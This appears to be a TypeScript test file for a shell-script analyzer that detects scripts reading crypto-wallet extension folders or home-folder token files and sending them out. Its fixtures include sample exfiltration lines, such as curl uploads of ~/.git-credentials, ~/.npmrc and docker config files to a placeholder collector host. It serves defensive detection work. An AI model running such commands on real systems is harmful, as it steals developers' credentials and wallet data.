import assert from 'node:assert/strict';
import { it } from 'node:test';
import { walletExtensions } from '../knowledge/index.ts';
import { analyzeShellScript } from './shell-script.ts';

it('a script that reads any shipped wallet extension folder reads credentials, at that line', () => {
  for (const e of walletExtensions()) {
    const facts = analyzeShellScript(`#!/bin/sh\nset -e\ntar czf /tmp/w.tgz "$P/Local Extension Settings/${e.id}"\n`);
    assert.equal(facts.credentials?.line, 3, e.name);
    assert.equal(facts.credentials.sent, false);
  }
});

it('an extension id that is not a wallet, or a wallet id inside a longer word, is not a credential read', () => {
  // uBlock Origin's id, and MetaMask's id with a letter added.
  for (const id of ['cjpalhdlnbpafiamejdnhcphjbkeiagm', 'xnkbihfbeogaeaoehlefnkodbefgpgknn']) {
    assert.equal(analyzeShellScript(`#!/bin/sh\ncp -r "extensions/${id}" dist/\n`).credentials, undefined, id);
  }
});

it('a script that reads a token file from the home folder reads credentials; one that writes its own does not', () => {
  for (const path of ['~/.git-credentials', '$HOME/.npmrc', '${HOME}/.pypirc', '~/.config/gh/hosts.yml', '~/.docker/config.json']) {
    const facts = analyzeShellScript(`#!/bin/sh\nset -e\ncurl -s -F "f=@${path}" https://collect.example.invalid/u\n`);
    assert.equal(facts.credentials?.line, 3, path);
    assert.equal(facts.credentials.sent, true, path);
  }
  const ci = analyzeShellScript('#!/bin/sh\necho "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc\nnpm publish\n');
  assert.equal(ci.credentials, undefined);
});
